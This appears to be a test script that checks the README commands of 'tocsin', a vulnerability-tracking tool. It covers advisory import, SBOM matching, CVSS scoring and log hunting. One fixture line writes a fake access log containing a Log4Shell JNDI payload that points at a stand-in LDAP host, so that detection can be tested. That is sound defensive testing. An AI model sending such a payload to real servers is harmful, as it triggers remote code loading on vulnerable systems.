#!/usr/bin/env python3
"""The commands of README.md as a reader types them, in its order: each block of code is run, and a command that this test does not know
fails it. What a reader has to put in the place of "…", FILE and the like stands in PUT.

    tests/readme_test.py BUILD_FOLDER
"""
import json
import os
import pathlib
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import urllib.request

from e2e import check, finish, free_port

ROOT = pathlib.Path(__file__).resolve().parent.parent
README = (ROOT / "README.md").read_text(encoding="utf-8")
BLOCKS = re.findall(r"^```\n(.*?)^```$", README, re.M | re.S)

OSV = {"id": "TEST-1", "modified": "2026-01-01T00:00:00Z", "aliases": ["CVE-2021-44228"], "affected": [
    {"package": {"ecosystem": "npm", "name": "a"}, "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "2.0.0"}]}]}]}
BOM = {"bomFormat": "CycloneDX", "specVersion": "1.5", "components": [
    {"type": "library", "name": "a", "version": "1.0.0", "purl": "pkg:npm/a@1.0.0"}]}
FACTS = {"party": {"id": "acme", "roles": ["product_provider"], "country": "CN", "markets": ["CN"]}, "facts": [
    {"fact": "awareness", "of": "vuln.in_own_product", "at": "2021-11-24T08:00:00Z"}]}
# What a reader puts in, by the line as it stands there; its exit code (1: something was found), and what the answer must hold.
PUT = {
    "tocsin regime due --facts case.json": ("tocsin regime due --facts case.json", 0, "cn.rmsv.art7"),
    "tocsin version compare maven 2.0-beta9 2.0": ("tocsin version compare maven 2.0-beta9 2.0", 0, "<"),
    "tocsin vers contains 'vers:npm/>=1.0|<2.0' 1.5": ("tocsin vers contains 'vers:npm/>=1.0|<2.0' 1.5", 0, "true"),
    "tocsin cvss CVSS:3.1/AV:N/…": ("tocsin cvss CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H", 0, "10"),
    "tocsin source add cisa-kev": ("tocsin source add cisa-kev --data data", 0, "stands in the log"),
    "tocsin advisory import FILE…": ("tocsin advisory import osv.json --data data && tocsin advisory index --data data", 0, "1 "),
    "tocsin csaf validate FILE…": ("tocsin csaf validate csaf.json", 1, "/document"),
    "tocsin match bom.json": ("tocsin match bom.json --data data", 1, "CVE-2021-44228"),
    "tocsin inventory import --partner bank bom.json": ("tocsin inventory import --partner bank bom.json --data data", 0, "1 findings opened"),
    "tocsin scan /srv --json": ("tocsin scan srv --json", 0, '"files":1'),
    "tocsin hunt access.log.gz": ("tocsin hunt access.log.gz", 1, "jndi"),
    "tocsin impact CVE-2021-44228": ("tocsin impact CVE-2021-44228 --data data", 1, "bank / bom.json"),
}


def block(begins):
    found = [text for text in BLOCKS if text.startswith(begins)]
    check(len(found) == 1, f"README.md has {len(found)} blocks that begin with {begins!r}")
    return found[0] if found else ""


def typed(command, folder, environment):
    return subprocess.run(["bash", "-c", command], cwd=folder, env=environment, capture_output=True, text=True, timeout=300, check=False)


def server(folder, environment):
    """./run, reported to and asked for a receipt that is then verified without it."""
    port = free_port()
    check("./run " in block("./run"), "the first command")
    process = subprocess.Popen(["bash", "-c", f"exec ./run --data {folder}/exercise --listen 127.0.0.1:{port}"], cwd=ROOT, env=environment,
                               stdout=open(folder / "printed", "w", encoding="utf-8"), stderr=subprocess.STDOUT)
    try:
        address = f"http://127.0.0.1:{port}"
        for _ in range(1200):
            try:
                urllib.request.urlopen(address + "/readyz", timeout=5).read()
                break
            except OSError:
                check(process.poll() is None, "./run ended")
                time.sleep(0.1)
        links = re.findall(r"sign in as [^:]+: \S+/sign-in/\S+", (folder / "printed").read_text(encoding="utf-8"))
        check(len(links) == 4, f"one-time links: {links}")
        curl = block("curl").replace("http://127.0.0.1:8460", address).replace("curl ", "curl -s ")
        done = typed(curl, folder, environment)
        answer = json.loads(done.stdout)
        check(answer["number"] and answer["status_url"] and answer["receipt"], f"the answer: {done.stdout[:300]}")
        # The status page has both files to take away; the block then verifies them.
        (folder / "receipt.tlog-proof").write_text(answer["receipt"], encoding="utf-8")
        (folder / "policy").write_bytes(urllib.request.urlopen(address + "/log/policy", timeout=5).read())
        done = typed(block("build/release/tocsin receipt verify"), folder, environment)
        check(done.returncode == 0, f"receipt verify: {done.returncode} {done.stdout[:300]} {done.stderr[:300]}")
    finally:
        process.send_signal(signal.SIGTERM)
        check(process.wait(timeout=60) == 0, "./run ends by a signal")


def without_server(folder, environment):
    done = typed(block("build/release/tocsin exercise run"), folder, environment)
    check(done.returncode == 0 and json.loads(done.stdout), f"the exercise: {done.returncode} {done.stderr[:300]}")
    for name, content in (("osv.json", OSV), ("bom.json", BOM), ("case.json", FACTS), ("csaf.json", {"document": {"csaf_version": "2.0"}})):
        (folder / name).write_text(json.dumps(content), encoding="utf-8")
    (folder / "srv").mkdir()
    (folder / "srv" / "a.txt").write_text("nothing of Log4j", encoding="utf-8")
    typed(r"""printf '%s\n' '1.2.3.4 "GET /?x=${jndi:ldap://x.example/a} HTTP/1.1" 200' | gzip > access.log.gz""", folder, environment)
    lines = [re.split(r" {3,}", line)[0] for line in block("tocsin regime due").splitlines()]
    lines = [re.sub(r"  .*", "", line) for line in lines]
    for line in lines:
        if line not in PUT:
            check(False, f"README.md has a command that is not tried: {line}")
            continue
        command, code, holds = PUT[line]
        done = typed(command, folder, environment)
        check(done.returncode == code and holds in done.stdout + done.stderr,
              f"{command}: exit {done.returncode}, {done.stdout[:300]} {done.stderr[:300]}")


def main():
    build = pathlib.Path(sys.argv[1]).resolve()
    with tempfile.TemporaryDirectory(prefix="tocsin-readme.") as name:
        folder = pathlib.Path(name)
        (folder / "build").mkdir()
        (folder / "build" / "release").symlink_to(build)
        environment = {**os.environ, "PATH": f"{build}:{os.environ['PATH']}"}
        server(folder, environment)
        without_server(folder, environment)
        known = ("./run", "build/release/tocsin receipt", "build/release/tocsin exercise", "curl", "tocsin regime due")
        check(all(text.startswith(known) for text in BLOCKS), f"README.md has a block that is not tried: {[text for text in BLOCKS if not text.startswith(known)]}")
        shutil.rmtree(folder / "exercise", ignore_errors=True)
    finish("readme")


main()
